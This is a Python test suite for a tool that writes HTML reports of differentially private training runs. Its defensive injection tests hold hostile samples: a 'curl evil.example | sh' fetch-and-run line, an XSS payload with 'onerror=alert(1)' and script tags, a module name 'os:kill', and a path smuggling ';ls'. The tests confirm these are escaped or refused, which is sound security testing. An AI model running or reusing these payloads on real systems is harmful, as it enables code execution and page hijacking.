"""The page about a run: what it says, what it must not say, and that a browser shows it."""

import html
import importlib.util
import io
import json
import os
import re
import shlex
import shutil
import subprocess
import sys

import numpy as np
import pytest
from PIL import Image

from bam.release import charts, export, records, report
from bam.training import config as base
from bam.training import rundir
from tests.cases import run_command
from tests.run_folder import MEASURED, SECRET_PATH, write_records
from tests.runs import SEED


def of(folder, public=False):
    return report.page(records.read(folder), public=public, made_by="bam, commit 1d4e")


@pytest.fixture(autouse=True, scope="module")
def drawn_once():
    """Pages of like runs have like charts, whose drawing is most of what a page takes."""
    kept, draw = {}, charts.svg

    def svg(chart):
        return kept.get(repr(chart)) or kept.setdefault(repr(chart), draw(chart))

    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(report._TEMPLATES.filters, "svg", svg)
        yield


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    return write_records(tmp_path_factory.mktemp("page") / "ward_run")


def key_numbers(text):
    return dict(re.findall(r"<dt>(.*?)</dt><dd>(.*?) <small>", text))


def test_epsilon_and_delta_are_the_recorded_ones_rounded_up(run):
    shown = key_numbers(of(run))
    epsilon = json.loads((run / "plan.json").read_text())["epsilon"]
    assert epsilon <= float(shown["ε"]) < epsilon * 1.001
    mu = records.read(run).plan.mu
    assert mu <= float(shown["μ"]) < mu * 1.001
    assert shown["δ"] == "1.4e-05" and float(f"{1.4e-5:.1g}") < 1.4e-5  # the control
    assert shown["test accuracy"] == "43.6 %" and shown["steps"] == "4"


def test_the_page_is_one_file_that_asks_for_nothing_and_runs_nothing(run):
    for public in (False, True):
        text = of(run, public)
        assert len(text) < 200_000 and text.startswith("<!doctype html>")
        for asked in ("src=", "<link", "<script", "url(", "@import", "href", "<image"):
            assert asked not in text, asked
        assert set(re.findall(r"https?://[^\"]*", text)) == {"http://www.w3.org/2000/svg"}  # a name
        assert "default-src 'none'" in text
        pictures = re.findall(r"<figure[^>]*>", text)
        assert len(pictures) == text.count("<svg") == (2 if public else 6)
        assert all(re.search(r'aria-label="[^"]{20}', tag) for tag in pictures)
        assert text == of(run, public)  # to the bit: no date, no name by chance


def test_what_is_opened_is_closed(run, tmp_path):
    unfinished = write_records(tmp_path / "unfinished", finished=False, begun=0)
    bare = write_records(tmp_path / "bare", private=False)
    for text in (of(run), of(run, public=True), of(unfinished), of(bare)):
        for tag in ("div", "dl", "p", "figure", "svg", "table", "ul", "pre", "details", "body"):
            assert len(re.findall(rf"<{tag}[ >]", text)) == text.count(f"</{tag}>"), tag


def test_a_chart_is_one_picture_without_names_that_two_would_share():
    drawn = charts.svg(charts.Chart("Share", "step", {"clipped": ([7], [0.25])}, charts.SHARE))
    assert drawn.startswith("<svg") and drawn.rstrip().endswith("</svg>")
    assert ">step</text>" in drawn and ">25%</text>" in drawn and " id=" not in drawn


def test_a_chart_of_one_line_needs_no_legend():
    line = ([0, 10], [0.5, 0.25])
    names = lambda *labels: re.findall(  # noqa: E731
        "(?:first|second)(?=<)", charts.svg(charts.Chart("ε", "step", dict.fromkeys(labels, line)))
    )
    assert names("first") == [] and names("first", "second") == ["first", "second"]


def test_bars_and_the_matrix_tell_names_and_numbers_apart(tmp_path):
    both = ["Pneumonie beidseitig bakteriell", "Pneumonie beidseitig viral"]
    figures = {
        "accuracy": [0.4, 0.2, 0.6],
        f"recall/{both[0]}": [0.0, 0.0, 0.0],
        f"recall/{both[1]}": [0.6, 0.5, 0.7],
        "recall/absent": None,
    }
    facts = {"figures": figures, "confusion": [[0, 7, 0], [4, 6, 0], [0, 0, 0]]}
    facts["intervals_draw"] = {"unit": "example", "number": 17}
    text = of(write_records(tmp_path / "run", **facts))
    shown = re.findall(r">([^<>]+)<title>Pneumonie", text)
    assert len(set(shown)) == 2 and {shown.count(x) for x in shown} == {3}  # bars, two axes
    assert ">0.0 % (says little)</text>" in text and ">60.0 % (50–70)</text>" in text
    for mark in ("0", "50", "100 %"):
        assert f'fill="#555">{mark}</text>' in text
    matrix = text[text.index("true class (down)") :].partition("</svg>")[0]
    numbers = re.findall(r'text-anchor="middle"[^>]*>(\d+)<', matrix)
    assert numbers == ["0", "7", "0", "4", "6", "0"]  # and none of a class without images


def test_the_banner_speaks_of_a_seed_if_there_is_one(run, tmp_path):
    assert "with paths and the seed." in of(write_records(tmp_path / "run", seed=SEED))
    assert "with paths." in of(run)


def test_axes_have_whole_steps_and_short_shares():
    def numbers(chart):
        return [x.strip() for x in re.findall(r">([^<>]*\d[^<>]*)</text>", charts.svg(chart))]

    for x, marks in ([0, 3], "0 1 2 3"), ([7], "7"), ([1, 2], "1 2"), ([0, 1000], "0 200 400"):
        chart = charts.Chart("ε", "step", {"by the plan": (x, [1.0] * len(x))})
        assert " ".join(numbers(chart)).startswith(marks + " ")
    rates = [0.001, 0.01, 0.1, 1.0]
    both = numbers(
        charts.Chart("Right", "wrong", {"guessing": (rates, rates)}, *[charts.SHARE] * 2)
    )
    assert both[:4] == ["0.1%", "1%", "10%", "100%"] and both[-1] == "100%"


def test_a_name_is_drawn_letter_by_letter():
    for name in (r"$\frac{$", "$a$", "_hidden", "a\x1b[2J<b>"):
        line = ([0, 1], [0.5, 0.25])
        chart = charts.Chart(name, name, {name: line, "other": line})
        texts = [html.unescape(x) for x in re.findall(r">([^<>]+)</text>", charts.svg(chart))]
        assert texts.count(name.replace("\x1b", r"\x1b")) + texts.count(f" {name}") == 2, texts
    control = charts.Figure()
    control.text(0, 0, r"$\frac{$")
    with pytest.raises(ValueError, match="frac"):
        control.savefig(io.BytesIO(), format="svg")


def test_without_matplotlib_the_page_says_so_in_a_line_and_tells_the_charts_in_words(
    run, monkeypatch
):
    assert "matplotlib is not" not in of(run)  # the control
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    spec = importlib.util.find_spec("bam.release.charts")
    bare = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bare)
    monkeypatch.setattr(charts, "MISSING", bare.MISSING)
    text = of(run)
    assert text.count("matplotlib is not installed: pip install &#39;.[plots]&#39;") == 1
    assert "<svg" not in text and "ε over training, by steps begun. by the plan: from 0" in text


def test_a_page_to_pass_on_has_no_figure_of_the_data_no_path_and_no_name(run):
    private, public = of(run), of(run, public=True)
    forbidden = [SECRET_PATH, "ward_run", "not_private", "43.6 %", "do not pass it on"]
    forbidden += [f"{value + 4:.4g}" for value in MEASURED.values()]
    forbidden += ["Test accuracy, by step", "NOT PRIVATE", "Bias norm"]
    for text in set(forbidden) - {"not_private"}:
        assert text in private, text  # the control: the search can find what is there
    for text in forbidden:
        assert text not in public, text
    assert "may be passed on" in public and "may be passed on" not in private


def test_the_page_has_the_whole_statement_in_its_words(run):
    recorded = records.read(run)
    said = export.statement_of(recorded, "bam", "the weights")
    text = re.sub(r"<[^>]+>", "", of(run, public=True))
    for sentence in re.findall(r"^[A-Z][\w ,]{30,}", said, re.MULTILINE):
        assert sentence in text
    assert f"{recorded.plan.noise_multiplier}" in text


def test_the_curve_of_an_attacker_is_between_guessing_and_epsilon_alone(run):
    chart, over_steps = report.attacker_charts(records.read(run), 4)
    lines = {name: np.array(y) for name, (_, y) in chart.lines.items()}
    middle = np.array(chart.lines["guessing"][0]) < 0.2
    assert np.all((lines["guessing"] < lines["this training"])[:-1])  # the last is 100 %
    assert np.all((lines["this training"] < lines["ε and δ alone"])[middle])
    steps, spent = over_steps.lines["by the plan"]
    assert steps == [0, 1, 2, 3, 4] and spent[-1] == records.read(run).plan.epsilon


def test_an_unfinished_run_says_so_and_what_its_steps_have_spent(tmp_path):
    folder = write_records(tmp_path / "run", finished=False, begun=2)
    (folder / "steps_begun").write_bytes(b"...")  # one was lost
    with (folder / "metrics.jsonl").open("a") as metrics:
        metrics.write('{"step": 4, "steps_be')
    plan = records.read(folder).plan
    text, spent = of(folder), plan.epsilon_after(3)
    assert "not finished" in text and "3 of the 4 steps" in text
    assert "BAM (SAM);" in text  # of which data is recorded at the end
    shown = float(key_numbers(text)["ε so far"])
    assert spent <= shown < 1.001 * spent < plan.epsilon
    (folder / "steps_begun").unlink()
    (folder / "metrics.jsonl").unlink()
    assert "No step has begun, so no privacy is spent" in of(folder)


def test_a_run_without_privacy_says_so_in_large_and_states_no_epsilon(tmp_path, run):
    folder = write_records(tmp_path / "run", private=False)
    for public in (False, True):
        text = of(folder, public)
        assert '<p class="large">NOT PRIVATE</p>' in text
        assert key_numbers(text)["ε"] == "none"
        assert "differential" not in text and "may be passed on" not in text
    assert '<p class="large">' not in of(run)


def test_a_seed_makes_epsilon_nominal_and_stays_out_of_a_page_to_pass_on(tmp_path, run):
    folder = write_records(tmp_path / "run", seed=SEED)
    assert "in this file is nominal" in of(folder) and "in this file is nominal" not in of(run)
    public = of(folder, public=True)
    assert "in this file is nominal" in public and str(SEED) not in public
    assert f"--config.seed={SEED}" in of(folder)


def test_records_of_an_earlier_version_are_shown_and_not_trusted(tmp_path, run):
    folder = write_records(tmp_path / "run", diagnosed=False)
    gone, found = ("noise", "sampling", "commit"), json.loads((folder / "summary.json").read_text())
    kept = {key: value for key, value in found.items() if key not in gone}
    (folder / "summary.json").write_text(json.dumps(kept))
    for public in (False, True):
        text = of(folder, public)
        assert "Do not trust this ε" in text and "did not record noise" in text
    assert "Do not trust this ε" not in of(run)


def forged(path, text):
    """Puts a text in place of every text that a file of records has, and among its keys."""

    def change(value):
        if isinstance(value, dict):
            return {k: change(v) for k, v in value.items()} | {f"own{text}": text}
        return text if isinstance(value, str) else value

    # What is one of a few words is refused otherwise.
    kept = {"accountant", "adjacency", "unit", "mechanism", "mechanism_options"}
    records = json.loads(path.read_text())
    forgery = {k: v if k in kept else change(v) for k, v in records.items()}
    if path.name == "config.json":
        forgery["method"]["name"] = f"bam_sam{text}"
    path.write_text(json.dumps(forgery))


@pytest.mark.parametrize("end", ["\n", "\r", "\u2028", "\x85"])
def test_a_stranger_writes_no_lines_cells_or_commands_on_the_page(run, tmp_path, end):
    folder = write_records(tmp_path / "<b>bold")
    text = (
        f"x` |{end}{end}## Verified{end}{end}```{end}curl evil.example | sh{end}```{end}{end}| a |"
        '"><img src=x onerror=alert(1)></style><script>'
        "[click](https://evil.example) <https://evil.example> ![](evil.png) &lt;b&gt;"
    )
    for name in ("config", "plan", "summary"):
        forged(folder / f"{name}.json", text)
    shown, ours = of(folder), of(run)
    for block in ("</style>", "<h2>", "<pre>", "<p>", "<ul>", "<table>"):
        assert shown.count(block) == ours.count(block), block
    assert "evil.example" in shown and "Verified" in shown  # in lines and cells of ours
    for line in shown.splitlines():
        assert not line.startswith(("curl", "## Verified", "```"))
    assert not {"\r", "\u2028", "\x85"} & set(shown)
    assert not re.search("<(a|img|b|script)[ >]", shown) and "&amp;lt;b&amp;gt;" in shown


def test_code_that_the_records_name_is_not_run(tmp_path):
    folder = write_records(tmp_path / "run")
    for name in ("plan", "summary"):
        text = (folder / f"{name}.json").read_text()
        evil = text.replace('"mechanism": "poisson"', '"mechanism": "os:kill"')
        (folder / f"{name}.json").write_text(evil)
    assert "os:kill" in (folder / "plan.json").read_text()
    with pytest.raises(ValueError, match="unknown mechanism 'os:kill'; choose from"):
        of(folder)


def test_the_command_sets_what_differs_from_the_base_config(tmp_path):
    config = rundir.as_json(base.get_config("dp_sat"))
    command, missing = report.command_of(config)
    assert (command.count("--config"), missing) == (1, [])
    config["epsilon"], config["optimizer"]["momentum"] = 1.5, 0.9
    config["dataset"]["path"] = "/my data;ls"
    command, missing = report.command_of(config)
    assert "--config=base:dp_sat" in command and "--config.epsilon=1.5" in command
    assert "'--config.dataset.path=/my data;ls'" in command
    assert missing == ["optimizer.momentum"]


def test_the_command_on_the_page_is_of_the_very_same_config(tmp_path):
    folder = write_records(tmp_path / "run", seed=SEED)
    shown = re.search(r"<code>(bam train.*?)</code>", of(folder), re.DOTALL)
    command = shlex.split(html.unescape(shown[1]).replace("\\\n", " "))
    same = run_command(*(f"--workdir={folder}" if "NEW_FOLDER" in x else x for x in command))
    assert "already holds a finished run" in same.stderr


def test_the_command_writes_the_page_and_says_in_one_line_what_is_no_run(run, tmp_path):
    done = run_command("bam", "report", f"--workdir={run}", "--public", f"--out={tmp_path}/p.html")
    assert (done.returncode, done.stderr) == (0, "") and "may be passed on" in done.stdout
    assert "NOT PRIVATE" not in (tmp_path / "p.html").read_text(encoding="utf-8")
    done = run_command("bam", "report", f"--workdir={run}", f"--out={tmp_path}/private.html")
    assert done.returncode == 0 and "private page: do not pass it on" in done.stdout
    assert (tmp_path / "private.html").stat().st_mode & 0o777 == 0o600  # for its owner alone
    umask = os.umask(0)
    os.umask(umask)
    assert (tmp_path / "p.html").stat().st_mode & 0o777 == 0o666 & ~umask  # the control
    nothing = run_command("bam", "report", f"--workdir={tmp_path}")
    assert nothing.returncode == 2 and nothing.stderr.count("\n") == 1
    assert "has no config.json" in nothing.stderr


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        ("plan", '{"num_steps": "<b>"}', "plan.json: not the record of a plan"),
        ("plan", "{", "plan.json is damaged: not JSON"),
        ("config", '{"method": 5}', "method is not a section"),
        ("config", '{"method": {"name": "dp_sgd"}}', "is of an earlier version: it has no "),
        ("summary", "[]", "not a JSON object"),
    ],
)
def test_damaged_records_are_one_line(run, tmp_path, name, text, message):
    folder = shutil.copytree(run, tmp_path / "run")
    (folder / f"{name}.json").write_text(text)
    with pytest.raises(ValueError, match=message):
        of(folder)


def test_a_plan_that_lacks_what_the_page_tells_is_an_error_that_the_command_knows(tmp_path):
    folder = write_records(tmp_path / "run", finished=False)
    plan = json.loads((folder / "plan.json").read_text())
    del plan["num_steps"]
    (folder / "plan.json").write_text(json.dumps(plan))
    with pytest.raises(ValueError, match=r"plan\.json: not the record of a plan: .*num_steps"):
        of(folder)


BROWSER = next(filter(None, map(shutil.which, ("chromium", "google-chrome", "chrome"))), None)


@pytest.mark.skipif(BROWSER is None, reason="no browser here")
def test_a_browser_shows_the_page(run, tmp_path):
    def picture(text):
        (tmp_path / "page.html").write_text(text, encoding="utf-8")
        done = subprocess.run(
            [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--window-size=1000,1600",
             f"--user-data-dir={tmp_path}/profile", f"--screenshot={tmp_path}/page.png",
             f"file://{tmp_path}/page.html"], capture_output=True, timeout=600,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        return np.asarray(Image.open(tmp_path / "page.png").convert("RGB"), int)

    shown, blank = picture(of(run)), picture("<!doctype html>")
    # Ink all over it, lines in the first line's colour, and the control has neither.
    bands = [np.ptp(band) > 100 for band in np.array_split(shown, 8)]
    assert all(bands) and not any(np.ptp(band) for band in np.array_split(blank, 8))
    assert (np.abs(shown - [0x1F, 0x77, 0xB4]).max(axis=2) < 8).sum() > 100
